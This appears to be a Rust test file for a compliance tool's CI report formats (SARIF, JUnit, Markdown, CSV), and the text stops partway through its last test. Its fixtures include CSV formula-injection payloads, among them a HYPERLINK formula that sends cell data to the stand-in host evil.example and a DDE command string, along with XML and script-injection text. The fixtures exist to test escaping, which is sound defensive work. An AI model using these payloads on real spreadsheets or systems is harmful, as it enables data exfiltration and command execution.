//! The CI formats, end to end: SARIF checked against the official OASIS
//! schema, JUnit XML read back by a real JUnit parser, the Markdown summary
//! and the CSV control matrix, each against the JSON report of the same run,
//! and each with hostile text in findings.
//!
//! The JUnit comparison needs `ASSAY_JUNIT_PYTHON`, a Python with the
//! `junitparser` package; `./scripts/test` installs a pinned one and sets it.
//! When it is missing that test is skipped with a message, unless
//! `ASSAY_REQUIRE_PEERS=1`, when it fails.

// Test helpers may panic: a panic is a test failure with its message.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

mod common;
use assay::outcome::{EvalError, Status};
use assay::report::{Report, junit, sarif};
use common::{Run, assay, planted_secrets};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::Command;

const AS_OF: &str = "2026-11-20";

/// The demo in one format; it has violations, so it exits 1.
fn demo(format: &str) -> String {
    let run = assay(&[
        "check",
        "examples/acme",
        "--as-of",
        AS_OF,
        "--format",
        format,
    ]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    run.stdout
}

fn demo_report() -> Report {
    serde_json::from_str(&demo("json")).unwrap()
}

/// A temporary project's output in one format (few trials: the risks are not
/// what these tests look at).
fn project(dir: &Path, format: &str, extra: &[&str]) -> Run {
    let mut args = vec![
        "check",
        dir.to_str().unwrap(),
        "--as-of",
        AS_OF,
        "--trials",
        "1000",
        "--format",
        format,
    ];
    args.extend_from_slice(extra);
    assay(&args)
}

// ---------------------------------------------------------------- SARIF --

fn sarif_validator() -> jsonschema::Validator {
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string("tests/schemas/sarif-schema-2.1.0.json").unwrap(),
    )
    .unwrap();
    jsonschema::options()
        .should_validate_formats(true)
        .build(&schema)
        .unwrap()
}

fn assert_valid_sarif(validator: &jsonschema::Validator, log: &Value, what: &str) {
    let errors: Vec<String> = validator
        .iter_errors(log)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{what}: {errors:#?}");
}

fn results(log: &Value) -> &Vec<Value> {
    log["runs"][0]["results"].as_array().unwrap()
}

fn fingerprint(result: &Value) -> &str {
    result["partialFingerprints"][sarif::FINGERPRINT_KEY]
        .as_str()
        .unwrap()
}

#[test]
fn sarif_of_the_demo_validates_against_the_official_schema() {
    let validator = sarif_validator();
    let log: Value = serde_json::from_str(&demo("sarif")).unwrap();
    assert_valid_sarif(&validator, &log, "the demo");
    assert_eq!(log["version"], "2.1.0");
    assert_eq!(log["$schema"], sarif::SCHEMA_URI);
    assert_eq!(log["runs"].as_array().unwrap().len(), 1);
    // The validator does reject what the schema forbids.
    let mut broken = log.clone();
    broken["runs"][0]["results"][0]["level"] = "fatal".into();
    assert!(!validator.is_valid(&broken), "an invalid level passed");
    let mut broken = log;
    broken["runs"][0]["tool"]["driver"]
        .as_object_mut()
        .unwrap()
        .remove("name");
    assert!(
        !validator.is_valid(&broken),
        "a driver without a name passed"
    );
}

#[test]
fn sarif_has_a_rule_per_check_and_a_result_per_finding() {
    let report = demo_report();
    let log: Value = serde_json::from_str(&demo("sarif")).unwrap();
    let driver = &log["runs"][0]["tool"]["driver"];
    assert_eq!(driver["name"], "assay");
    assert_eq!(driver["version"], report.tool.version);
    let rules = driver["rules"].as_array().unwrap();
    let rule_ids: Vec<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
    let check_ids: Vec<&str> = report.checks.iter().map(|c| c.result.id.as_str()).collect();
    assert_eq!(rule_ids, check_ids);
    let mfa = rules
        .iter()
        .find(|r| r["id"] == "aws.iam.console-mfa")
        .unwrap();
    assert_eq!(mfa["shortDescription"]["text"], "Console users have MFA");
    assert_eq!(mfa["defaultConfiguration"]["level"], "error");
    assert_eq!(mfa["properties"]["security-severity"], "7.5");
    assert!(mfa["help"]["text"].as_str().unwrap().contains("MFA device"));
    let controls = mfa["properties"]["controls"].as_array().unwrap();
    assert!(
        controls.contains(&Value::from("soc2:CC6.1")),
        "{controls:?}"
    );

    let results = results(&log);
    let findings: usize = report.checks.iter().map(|c| c.result.findings.len()).sum();
    assert_eq!(results.len(), findings);
    for result in results {
        let index = result["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(
            result["ruleId"], rules[index]["id"],
            "ruleIndex points at its rule"
        );
    }
    // Each finding is its own result: matched by check, place and item.
    let keys: BTreeSet<(String, String)> = results.iter().map(result_key).collect();
    for check in &report.checks {
        for f in &check.result.findings {
            let place = match (&f.export, &f.line) {
                (Some(_), _) => f.label.clone().unwrap_or_default(),
                (None, Some(line)) => format!("{}:{line}", f.path.as_deref().unwrap()),
                (None, None) => f.path.clone().unwrap_or_default(),
            };
            let key = (check.result.id.to_string(), place);
            assert!(keys.contains(&key), "no result for {key:?}");
        }
    }
}

/// (rule, `path:line`) for a repository result, (rule, record name) for an export one.
fn result_key(result: &Value) -> (String, String) {
    let loc = &result["locations"][0];
    let place = match loc["logicalLocations"][0]["name"].as_str() {
        Some(name) => name.to_owned(),
        None => {
            let physical = &loc["physicalLocation"];
            let uri = physical["artifactLocation"]["uri"].as_str().unwrap();
            match physical["region"]["startLine"].as_u64() {
                Some(line) => format!("{uri}:{line}"),
                None => uri.to_owned(),
            }
        }
    };
    (result["ruleId"].as_str().unwrap().to_owned(), place)
}

#[test]
fn sarif_locates_repository_and_export_findings() {
    let log: Value = serde_json::from_str(&demo("sarif")).unwrap();
    let results = results(&log);
    let key = results
        .iter()
        .find(|r| r["ruleId"] == "repo.secrets.aws-access-key")
        .unwrap();
    assert_eq!(key["level"], "error");
    let physical = &key["locations"][0]["physicalLocation"];
    assert_eq!(physical["artifactLocation"]["uri"], "app/settings.py");
    assert_eq!(physical["artifactLocation"]["uriBaseId"], "%SRCROOT%");
    assert_eq!(physical["region"]["startLine"], 8);
    assert_eq!(physical["region"]["startColumn"], 21);
    assert!(
        key["message"]["text"]
            .as_str()
            .unwrap()
            .contains("AKIA****************"),
        "the redacted excerpt is in the message"
    );
    assert!(log["runs"][0]["originalUriBaseIds"]["%SRCROOT%"].is_object());

    let mfa = results
        .iter()
        .find(|r| {
            r["ruleId"] == "aws.iam.console-mfa"
                && r["locations"][0]["logicalLocations"][0]["name"] == "sam.support"
        })
        .unwrap();
    let location = &mfa["locations"][0];
    let logical = &location["logicalLocations"][0];
    assert_eq!(logical["fullyQualifiedName"], "export/aws-prod/2");
    assert_eq!(logical["kind"], "object");
    let physical = &location["physicalLocation"];
    assert!(
        physical["artifactLocation"]["uri"]
            .as_str()
            .unwrap()
            .ends_with("exports/credential-report.csv")
    );
    assert!(
        physical.get("region").is_none(),
        "an export file has no region"
    );
}

#[test]
fn sarif_fingerprints_are_present_distinct_and_stable() {
    let first = demo("sarif");
    let second = demo("sarif");
    assert_eq!(first, second, "the same report gives the same bytes");
    let log: Value = serde_json::from_str(&first).unwrap();
    let fingerprints: Vec<&str> = results(&log).iter().map(fingerprint).collect();
    assert!(
        fingerprints.iter().all(|f| f.len() >= 16),
        "{fingerprints:?}"
    );
    let distinct: BTreeSet<&&str> = fingerprints.iter().collect();
    assert_eq!(
        distinct.len(),
        fingerprints.len(),
        "two results share a fingerprint"
    );
}

#[test]
fn planted_secrets_appear_in_no_ci_format() {
    let secrets = planted_secrets();
    for format in ["sarif", "junit", "markdown", "csv"] {
        let out = demo(format);
        for secret in &secrets {
            assert!(!out.contains(secret.as_str()), "{format} leaks a secret");
        }
    }
}

/// A repository holding two AWS access key ids (AWS's documented examples)
/// below `above` lines of other text.
fn keys_repo(dir: &Path, above: usize) {
    let mut text = "\"\"\"Settings.\"\"\"\n".to_owned();
    for i in 0..above {
        text.push_str(&format!("# inserted line {i}\n"));
    }
    text.push_str("UPLOAD_KEY = \"AKIAIOSFODNN7EXAMPLE\"\nBACKUP_KEY = \"AKIAI44QH8DHBEXAMPLE\"\n");
    std::fs::write(dir.join("settings.py"), text).unwrap();
}

/// (startLine, fingerprint) of each AWS key result, in order.
fn key_results(dir: &Path) -> Vec<(u64, String)> {
    let run = project(dir, "sarif", &["--check", "repo.secrets.aws-access-key"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let log: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_valid_sarif(&sarif_validator(), &log, "the keys repository");
    results(&log)
        .iter()
        .map(|r| {
            let line = r["locations"][0]["physicalLocation"]["region"]["startLine"]
                .as_u64()
                .unwrap();
            (line, fingerprint(r).to_owned())
        })
        .collect()
}

#[test]
fn a_fingerprint_survives_inserting_lines_above_a_finding() {
    let dir = tempfile::tempdir().unwrap();
    keys_repo(dir.path(), 0);
    let before = key_results(dir.path());
    keys_repo(dir.path(), 3);
    let after = key_results(dir.path());
    assert_eq!(before.len(), 2, "{before:?}");
    assert_eq!(after.len(), 2, "{after:?}");
    for (b, a) in before.iter().zip(&after) {
        assert_eq!(a.0, b.0 + 3, "the line moved down by three");
        assert_eq!(a.1, b.1, "the fingerprint did not survive the move");
    }
    assert_ne!(before[0].1, before[1].1, "two keys, one fingerprint");
}

/// Whether `s` is an RFC 3986 URI reference: only characters a URI may hold,
/// and `%` always followed by two hex digits. (The schema is draft-04, which
/// has no `uri-reference` format for the validator to check.)
fn is_uri_reference(s: &str) -> bool {
    let bytes = s.as_bytes();
    bytes.iter().enumerate().all(|(i, &b)| match b {
        b'%' => bytes
            .get(i + 1..i + 3)
            .is_some_and(|h| h.iter().all(u8::is_ascii_hexdigit)),
        _ => b.is_ascii_alphanumeric() || b"-._~:/?#[]@!$&'()*+,;=".contains(&b),
    })
}

fn percent_decode(s: &str) -> String {
    let mut out = Vec::new();
    let mut bytes = s.bytes();
    while let Some(b) = bytes.next() {
        if b == b'%' {
            let hex: String = bytes.by_ref().take(2).map(char::from).collect();
            out.push(u8::from_str_radix(&hex, 16).unwrap());
        } else {
            out.push(b);
        }
    }
    String::from_utf8(out).unwrap()
}

#[test]
fn sarif_uris_are_valid_for_any_file_name() {
    let log: Value = serde_json::from_str(&demo("sarif")).unwrap();
    for result in results(&log) {
        let uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
            .as_str()
            .unwrap();
        assert!(is_uri_reference(uri), "`{uri}`");
    }
    let dir = tempfile::tempdir().unwrap();
    let odd = "odd dir/ké y#1%?.py";
    std::fs::create_dir_all(dir.path().join("odd dir")).unwrap();
    std::fs::write(dir.path().join(odd), "KEY = \"AKIAIOSFODNN7EXAMPLE\"\n").unwrap();
    let run = project(
        dir.path(),
        "sarif",
        &["--check", "repo.secrets.aws-access-key"],
    );
    assert_eq!(run.code, 1, "{}", run.stderr);
    let log: Value = serde_json::from_str(&run.stdout).unwrap();
    let uri = results(&log)[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        .as_str()
        .unwrap();
    assert!(is_uri_reference(uri), "`{uri}`");
    assert!(!uri.contains(['#', '?', ' ']), "`{uri}`");
    assert_eq!(percent_decode(uri), odd);
}

/// The demo's report with one check waived and one that could not read a file.
fn waived_report() -> Report {
    let mut report = demo_report();
    for check in &mut report.checks {
        if check.result.id.as_str() == "repo.secrets.private-key" {
            check.result.status = Status::Waived;
            for f in &mut check.result.findings {
                f.waiver = Some("W-7".to_owned());
            }
        }
        if check.result.id.as_str() == "docker.non-root" {
            check.result.status = Status::Error;
            check.result.findings.clear();
            check.result.errors.push(EvalError {
                path: Some("Dockerfile".to_owned()),
                message: "could not read the file".to_owned(),
            });
        }
    }
    report
}

#[test]
fn sarif_marks_waived_findings_suppressed_and_check_errors_as_notifications() {
    let log: Value = serde_json::from_str(&sarif::render(&waived_report())).unwrap();
    assert_valid_sarif(&sarif_validator(), &log, "waived and erroring checks");
    let waived = results(&log)
        .iter()
        .find(|r| r["ruleId"] == "repo.secrets.private-key")
        .unwrap();
    let suppression = &waived["suppressions"][0];
    assert_eq!(suppression["kind"], "external");
    assert_eq!(suppression["status"], "accepted");
    assert_eq!(suppression["justification"], "W-7");
    let unwaived = results(&log)
        .iter()
        .find(|r| r["ruleId"] == "repo.secrets.aws-access-key")
        .unwrap();
    assert!(unwaived.get("suppressions").is_none());

    let invocation = &log["runs"][0]["invocations"][0];
    assert_eq!(invocation["executionSuccessful"], true);
    let notes = invocation["toolExecutionNotifications"].as_array().unwrap();
    assert_eq!(notes.len(), 1, "{notes:?}");
    assert_eq!(notes[0]["level"], "error");
    assert_eq!(notes[0]["associatedRule"]["id"], "docker.non-root");
    assert!(
        notes[0]["message"]["text"]
            .as_str()
            .unwrap()
            .contains("could not read")
    );
}

// ---------------------------------------------------------------- JUnit --

/// The Python with junitparser, or `None` when the test is to be skipped.
fn junit_python() -> Option<String> {
    match std::env::var("ASSAY_JUNIT_PYTHON") {
        Ok(p) if !p.is_empty() => Some(p),
        _ => common::unavailable(
            "junitparser",
            "ASSAY_JUNIT_PYTHON is not set",
            "ASSAY_JUNIT_PYTHON",
        ),
    }
}

/// The XML as junitparser reads it (tests/reference/read_junit.py).
fn read_junit(python: &str, xml: &str) -> Value {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("assay.xml");
    std::fs::write(&file, xml).unwrap();
    let out = Command::new(python)
        .arg("tests/reference/read_junit.py")
        .arg(&file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "junitparser could not read the XML: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    serde_json::from_slice(&out.stdout).unwrap()
}

fn counts(tests: usize, failures: usize, errors: usize, skipped: usize) -> Value {
    serde_json::json!({"tests": tests, "failures": failures, "errors": errors, "skipped": skipped})
}

/// Per suite: the counts and failing case names the JSON report implies.
fn expected_suites(report: &Report) -> BTreeMap<String, (Value, Vec<String>)> {
    let mut suites = BTreeMap::new();
    let c = &report.summary.checks;
    let failing = report
        .checks
        .iter()
        .filter(|c| c.result.status == Status::Fail)
        .map(|c| c.result.id.to_string())
        .collect();
    suites.insert(
        "checks".to_owned(),
        (
            counts(
                report.checks.len(),
                c.fail,
                c.error,
                c.not_applicable + c.waived + c.manual,
            ),
            failing,
        ),
    );
    for fw in &report.frameworks {
        let s = &fw.summary;
        let failing = fw
            .controls
            .iter()
            .filter(|c| c.status == Status::Fail)
            .map(|c| c.id.clone())
            .collect();
        suites.insert(
            fw.id.to_string(),
            (
                counts(
                    fw.controls.len(),
                    s.fail,
                    s.error,
                    s.not_applicable + s.waived + s.manual,
                ),
                failing,
            ),
        );
    }
    suites
}

fn assert_junit_matches(parsed: &Value, report: &Report) {
    let expected = expected_suites(report);
    let suites = parsed["suites"].as_array().unwrap();
    let names: Vec<&str> = suites.iter().map(|s| s["name"].as_str().unwrap()).collect();
    assert_eq!(names.len(), expected.len(), "{names:?}");
    let mut totals = [0u64; 4];
    for suite in suites {
        let name = suite["name"].as_str().unwrap();
        let (want, failing) = &expected[name];
        assert_eq!(&suite["declared"], want, "{name}: counts on the suite");
        assert_eq!(&suite["counted"], want, "{name}: counts of its cases");
        let got: Vec<String> = serde_json::from_value(suite["failing"].clone()).unwrap();
        assert_eq!(&got, failing, "{name}: failing cases");
        for (t, key) in totals
            .iter_mut()
            .zip(["tests", "failures", "errors", "skipped"])
        {
            *t += want[key].as_u64().unwrap();
        }
    }
    let [tests, failures, errors, skipped] = totals.map(|n| n as usize);
    assert_eq!(
        parsed["totals"],
        counts(tests, failures, errors, skipped),
        "counts on <testsuites>"
    );
}

#[test]
fn junitparser_reads_the_counts_of_the_json_report() {
    let Some(python) = junit_python() else {
        return;
    };
    let report = demo_report();
    let parsed = read_junit(&python, &demo("junit"));
    assert_junit_matches(&parsed, &report);
    let checks = &parsed["suites"][0]["cases"];
    let mfa = checks
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "aws.iam.console-mfa")
        .unwrap();
    assert_eq!(mfa["classname"], "assay.aws.iam.credential-report");
    assert!(mfa["text"].as_str().unwrap().contains("[sam.support]"));

    // Waived and erroring checks, through the same parser.
    let waived = waived_report();
    let parsed = read_junit(&python, &junit::render(&waived));
    let cases = parsed["suites"][0]["cases"].as_array().unwrap();
    let case = |name: &str| cases.iter().find(|c| c["name"] == name).unwrap();
    assert_eq!(case("repo.secrets.private-key")["result"], "skipped");
    assert!(
        case("repo.secrets.private-key")["message"]
            .as_str()
            .unwrap()
            .contains("waived by W-7")
    );
    assert_eq!(case("docker.non-root")["result"], "error");
    assert_eq!(
        parsed["suites"][0]["declared"]["errors"], 1,
        "the erroring check is counted"
    );
}

/// A project whose check title, message and matched text hold what XML
/// forbids or must escape: NUL, ESC, `]]>`, markup, quotes, a pipe.
fn hostile_project(dir: &Path) {
    std::fs::create_dir_all(dir.join("policies")).unwrap();
    std::fs::create_dir_all(dir.join("repo")).unwrap();
    std::fs::write(
        dir.join("assay.toml"),
        "[project]\nname = \"Tom & Jerry's <Co>\"\nrepository = \"repo\"\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("policies/p.toml"),
        r#"[[check]]
id = "x.hostile"
title = "No <b>markup</b> & \"quotes\" | here"
severity = "high"
files = ["**"]
assert = "not-contains"
pattern = 'token = .*'
show_match = true
message = "bad\u0000 <script>]]> \u001b[31m & 'q' | \"x\" | y"
remediation = "Remove ]]> & <this>"
"#,
    )
    .unwrap();
    std::fs::write(
        dir.join("repo/app.cfg"),
        "token = <![CDATA[x]]> \u{1b}[0m & \"quoted\" | piped\n",
    )
    .unwrap();
}

/// Characters XML 1.0 does not allow anywhere in a document.
fn forbidden(c: char) -> bool {
    (c < ' ' && !matches!(c, '\t' | '\n' | '\r')) || c == '\u{FFFE}' || c == '\u{FFFF}'
}

fn attributes(e: &quick_xml::events::BytesStart<'_>, seen: &mut String) {
    for a in e.attributes() {
        let a = a.unwrap_or_else(|e| panic!("bad attribute: {e}"));
        seen.push_str(
            &a.normalized_value(quick_xml::XmlVersion::Explicit1_0)
                .unwrap(),
        );
        seen.push('\n');
    }
}

/// Parses the whole document with quick-xml, checking that every element
/// closes in order; returns the unescaped text and attribute values.
fn parse_xml(xml: &str) -> String {
    use quick_xml::events::Event;
    let mut reader = quick_xml::Reader::from_str(xml);
    reader.config_mut().check_end_names = true;
    let mut open: Vec<String> = Vec::new();
    let mut seen = String::new();
    loop {
        match reader
            .read_event()
            .unwrap_or_else(|e| panic!("not well-formed: {e}"))
        {
            Event::Start(e) => {
                attributes(&e, &mut seen);
                open.push(e.name().0.to_owned());
            }
            Event::Empty(e) => attributes(&e, &mut seen),
            Event::End(e) => {
                let name = e.name().0.to_owned();
                assert_eq!(open.pop().as_deref(), Some(name.as_str()));
            }
            Event::Text(t) => seen.push_str(&t.xml10_content()),
            Event::GeneralRef(r) => seen.push_str(match r.xml10_content().as_ref() {
                "amp" => "&",
                "lt" => "<",
                "gt" => ">",
                "quot" => "\"",
                "apos" => "'",
                "#13" => "\r",
                "#10" => "\n",
                "#9" => "\t",
                other => panic!("unexpected reference &{other};"),
            }),
            Event::CData(_) => panic!("no CDATA expected"),
            Event::Eof => break,
            _ => {}
        }
    }
    assert!(open.is_empty(), "unclosed elements: {open:?}");
    seen
}

#[test]
fn hostile_text_still_gives_well_formed_junit() {
    let dir = tempfile::tempdir().unwrap();
    hostile_project(dir.path());
    let run = project(dir.path(), "junit", &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let xml = &run.stdout;
    assert!(!xml.chars().any(forbidden), "a character XML forbids");
    for raw in ["<script>", "<b>", "<this>", "<![CDATA["] {
        assert!(!xml.contains(raw), "`{raw}` unescaped");
    }
    let text = parse_xml(xml);
    for expected in [
        // Control characters in report text are escaped before any format sees them.
        "bad\\u{0} <script>]]> \\u{1b}[31m & 'q' | \"x\" | y",
        "No <b>markup</b> & \"quotes\" | here",
        // The engine already blanks control characters in excerpts.
        "token = <![CDATA[x]]>",
        "[0m & \"quoted\" | piped",
        "Remove ]]> & <this>",
    ] {
        assert!(text.contains(expected), "missing `{expected}` in {text}");
    }
    if let Some(python) = junit_python() {
        let parsed = read_junit(&python, xml);
        let case = &parsed["suites"][0]["cases"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["name"] == "x.hostile")
            .unwrap()
            .clone();
        assert_eq!(case["result"], "failure");
        assert!(case["text"].as_str().unwrap().contains("<script>]]>"));
    }
}

// ------------------------------------------------------------- Markdown --

#[test]
fn markdown_shows_the_gate_and_a_row_per_framework() {
    let report = demo_report();
    let md = demo("markdown");
    assert!(
        md.starts_with("## ❌ assay: gate failed (fail-on high)\n"),
        "{md}"
    );
    for fw in &report.frameworks {
        let (s, c) = (&fw.summary, &fw.coverage);
        let row = format!(
            "| {} `{}` | {} | {} | {} | {} | {} | {} | {:.0}% |",
            fw.name,
            fw.id,
            c.controls,
            s.pass,
            s.fail,
            s.error,
            s.waived,
            s.manual,
            100.0 * (c.evaluated + c.attested) as f64 / c.controls as f64
        );
        assert!(md.contains(&row), "missing `{row}` in\n{md}");
    }
    for check in report.failing_checks() {
        let row = format!("| {} | `{}` ", check.result.severity, check.result.id);
        assert!(md.contains(&row), "missing `{row}`");
    }
    assert!(md.contains("| `app/settings.py:8:21` | 1 |"));
    assert!(md.contains("Waived findings: 0"));
    assert!(md.contains("Top risks (residual expected annual loss, USD): `"));
    // Every table line has as many cells as its header.
    assert_tables_are_square(&md);

    let run = assay(&[
        "check",
        "examples/acme",
        "--as-of",
        AS_OF,
        "--check",
        "repo.codeowners",
        "--format",
        "markdown",
    ]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(
        run.stdout
            .starts_with("## ✅ assay: gate passed (fail-on high)\n"),
        "{}",
        run.stdout
    );
}

/// Cell separators of a table line: pipes not escaped by a backslash.
fn cells(line: &str) -> usize {
    let bytes = line.as_bytes();
    (0..bytes.len())
        .filter(|&i| bytes[i] == b'|' && (i == 0 || bytes[i - 1] != b'\\'))
        .count()
}

fn assert_tables_are_square(md: &str) {
    let mut header: Option<usize> = None;
    for line in md.lines() {
        if !line.starts_with('|') {
            header = None;
            continue;
        }
        match header {
            None => header = Some(cells(line)),
            Some(n) => assert_eq!(cells(line), n, "a row with another shape: {line}"),
        }
    }
}

#[test]
fn a_pipe_in_a_message_does_not_add_a_column() {
    let dir = tempfile::tempdir().unwrap();
    hostile_project(dir.path());
    let run = project(dir.path(), "markdown", &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let md = &run.stdout;
    assert_tables_are_square(md);
    assert!(md.contains("\\| here"), "the pipe in the title is escaped");
    assert!(md.contains("&lt;script&gt;"), "markup is escaped");
    for raw in ["<script>", "<b>", "\u{0}", "\u{1b}"] {
        assert!(!md.contains(raw), "`{raw:?}` reached the summary");
    }
}

/// A project with `checks` failing checks of `files` findings each, whose
/// messages and file names are long and full of what must be escaped: even
/// cut per item, the summary outgrows a comment and is cut whole.
fn many_findings_project(dir: &Path, checks: usize, files: usize) {
    std::fs::create_dir_all(dir.join("policies")).unwrap();
    std::fs::create_dir_all(dir.join("repo")).unwrap();
    std::fs::write(dir.join("assay.toml"), "[project]\nrepository = \"repo\"\n").unwrap();
    let mut policies = String::new();
    for i in 0..checks {
        policies.push_str(&format!(
            "[[check]]\nid = \"many.c{i:02}\"\ntitle = \"Check {i}\"\nseverity = \"high\"\n\
             files = [\"**\"]\nassert = \"not-contains\"\npattern = 'bad'\n\
             message = \"{}\"\nremediation = \"fix it\"\n\n",
            "<|".repeat(400)
        ));
    }
    std::fs::write(dir.join("policies/many.toml"), policies).unwrap();
    for f in 0..files {
        let name = format!("{}-{f:02}.txt", "long|name".repeat(20));
        std::fs::write(dir.join("repo").join(name), "bad\n").unwrap();
    }
}

#[test]
fn markdown_is_capped_to_fit_a_comment() {
    let dir = tempfile::tempdir().unwrap();
    many_findings_project(dir.path(), 25, 8);
    let run = project(dir.path(), "markdown", &["--check", "many.*"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let md = &run.stdout;
    assert!(
        md.contains("cut to fit a comment"),
        "the last-resort cut ran"
    );
    assert!(md.contains("</details>"), "the cut closes what it cut into");
    assert!(
        md.chars().count() <= 65_536,
        "{} characters",
        md.chars().count()
    );
    let rows = md
        .lines()
        .filter(|l| l.starts_with("| high | `many.c"))
        .count();
    assert_eq!(rows, 20, "failing checks listed");
    assert!(md.contains("…and 5 more failing checks"));
    assert_tables_are_square(md);
    // Findings: at most five per check, then how many more.
    let mut listed = 0;
    for block in md.split("\n`many.c").skip(1) {
        let shown = block.lines().filter(|l| l.starts_with("- `")).count();
        assert!(shown <= 5, "{shown} findings listed for one check");
        listed += 1;
    }
    assert!(listed > 0, "no findings listed");
}

// ------------------------------------------------------------------ CSV --

fn parse_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

#[test]
fn csv_has_a_row_per_control_with_its_status() {
    let report = demo_report();
    let text = demo("csv");
    assert!(text.ends_with("\r\n"));
    assert!(
        !text.replace("\r\n", "").contains('\n'),
        "every line ends with CRLF"
    );
    let (header, rows) = parse_csv(&text);
    assert_eq!(
        header,
        [
            "framework",
            "control",
            "title",
            "status",
            "checks",
            "risks",
            "evidence",
            "notes"
        ]
    );
    let controls: usize = report.frameworks.iter().map(|f| f.controls.len()).sum();
    assert_eq!(rows.len(), controls);
    let by_key: BTreeMap<(String, String), &Vec<String>> = rows
        .iter()
        .map(|r| ((r[0].clone(), r[1].clone()), r))
        .collect();
    for fw in &report.frameworks {
        for c in &fw.controls {
            let row = by_key[&(fw.id.to_string(), c.id.clone())];
            assert_eq!(row[2], c.title);
            assert_eq!(row[3], c.status.as_str(), "{}:{}", fw.id, c.id);
            let checks: Vec<&str> = c.checks.iter().map(|x| x.as_str()).collect();
            assert_eq!(row[4], checks.join("; "));
            let risks: Vec<&str> = c.mitigates.iter().map(|m| m.risk.as_str()).collect();
            assert_eq!(row[5], risks.join("; "));
        }
    }
    // ACME-1's one check has one finding; CC1.4 is attested with evidence.
    assert_eq!(by_key[&("acme".into(), "ACME-1".into())][6], "1");
    let attested = report.frameworks[0]
        .controls
        .iter()
        .find(|c| c.id == "CC1.4")
        .unwrap();
    let files = attested.attestation.as_ref().unwrap().evidence.len();
    assert_eq!(
        by_key[&("soc2".into(), "CC1.4".into())][6],
        files.to_string()
    );
}

#[test]
fn csv_cells_that_look_like_formulas_are_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("frameworks")).unwrap();
    std::fs::create_dir_all(root.join("repo")).unwrap();
    std::fs::write(
        root.join("assay.toml"),
        "[project]\nrepository = \"repo\"\nframeworks = [\"evil\"]\n",
    )
    .unwrap();
    std::fs::write(
        root.join("frameworks/evil.toml"),
        r#"[framework]
id = "evil"
name = "Evil, Inc. standard"
version = "1"
publisher = "nobody"

[[control]]
id = "E-1"
title = '=HYPERLINK("https://evil.example/?d="&A1, "click")'
checks = ["repo.codeowners"]

[[control]]
id = "E-2"
title = "+1+cmd|' /C calc'!A0"

[[control]]
id = "E-3"
title = "-2 + 3"

[[control]]
id = "E-4"
title = "@SUM(A1:A9)"

[[control]]
id = "E-5"
title = "A plain title, with a comma"
"#,
    )
    .unwrap();
    let run = project(root, "csv", &[]);
    assert!(run.code == 0 || run.code == 1, "{}", run.stderr);
    let (_, rows) = parse_csv(&run.stdout);
    let titles: BTreeMap<&str, &str> = rows
        .iter()
        .map(|r| (r[1].as_str(), r[2].as_str()))
        .collect();
    assert_eq!(
        titles["E-1"],
        "'=HYPERLINK(\"https://evil.example/?d=\"&A1, \"click\")"
    );
    assert_eq!(titles["E-2"], "'+1+cmd|' /C calc'!A0");
    assert_eq!(titles["E-3"], "'-2 + 3");
    assert_eq!(titles["E-4"], "'@SUM(A1:A9)");
    assert_eq!(titles["E-5"], "A plain title, with a comma");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula: {cell}"
            );
        }
    }
}

// --------------------------------------------- what no format may hide --

/// Issue 13: a repository with a Helm template no check can judge and a
/// declared export that is missing. Every format names both, so a clean
/// SARIF, a green JUnit tab or a spreadsheet is not read as covering them.
#[test]
fn skipped_documents_and_unread_exports_reach_every_format() {
    let run = |format: &str| {
        let run = assay(&[
            "check",
            "fixtures/repos/k8s-partly-templated",
            "--check",
            "k8s.*",
            "--export",
            "k8s=fixtures/repos/k8s-partly-templated/missing.yaml",
            "--format",
            format,
        ]);
        assert_eq!(run.code, 1, "{format}: {}", run.stderr);
        run.stdout
    };
    // SARIF: a warning at the template's location, an error for the export.
    let log: Value = serde_json::from_str(&run("sarif")).unwrap();
    assert_valid_sarif(&sarif_validator(), &log, "skipped documents");
    let notes = log["runs"][0]["invocations"][0]["toolExecutionNotifications"]
        .as_array()
        .unwrap();
    let skipped: Vec<&Value> = notes.iter().filter(|n| n["level"] == "warning").collect();
    assert_eq!(skipped.len(), 1, "{notes:#?}");
    assert_eq!(
        skipped[0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "chart/templates/agent.yaml"
    );
    assert!(
        skipped[0]["message"]["text"]
            .as_str()
            .unwrap()
            .contains("Helm template")
    );
    assert!(notes.iter().any(|n| {
        n["level"] == "error"
            && n["message"]["text"]
                .as_str()
                .unwrap()
                .starts_with("export `k8s` could not be read")
    }));

    // The checks that read the missing export errored; the JSON says which
    // export failed the gate.
    let report: Value = serde_json::from_str(&run("json")).unwrap();
    assert_eq!(report["gate"]["unread_exports"], serde_json::json!(["k8s"]));

    // OSCAL: the result's description names the skipped document.
    let oscal: Value = serde_json::from_str(&run("oscal")).unwrap();
    let description = oscal["assessment-results"]["results"][0]["description"]
        .as_str()
        .unwrap();
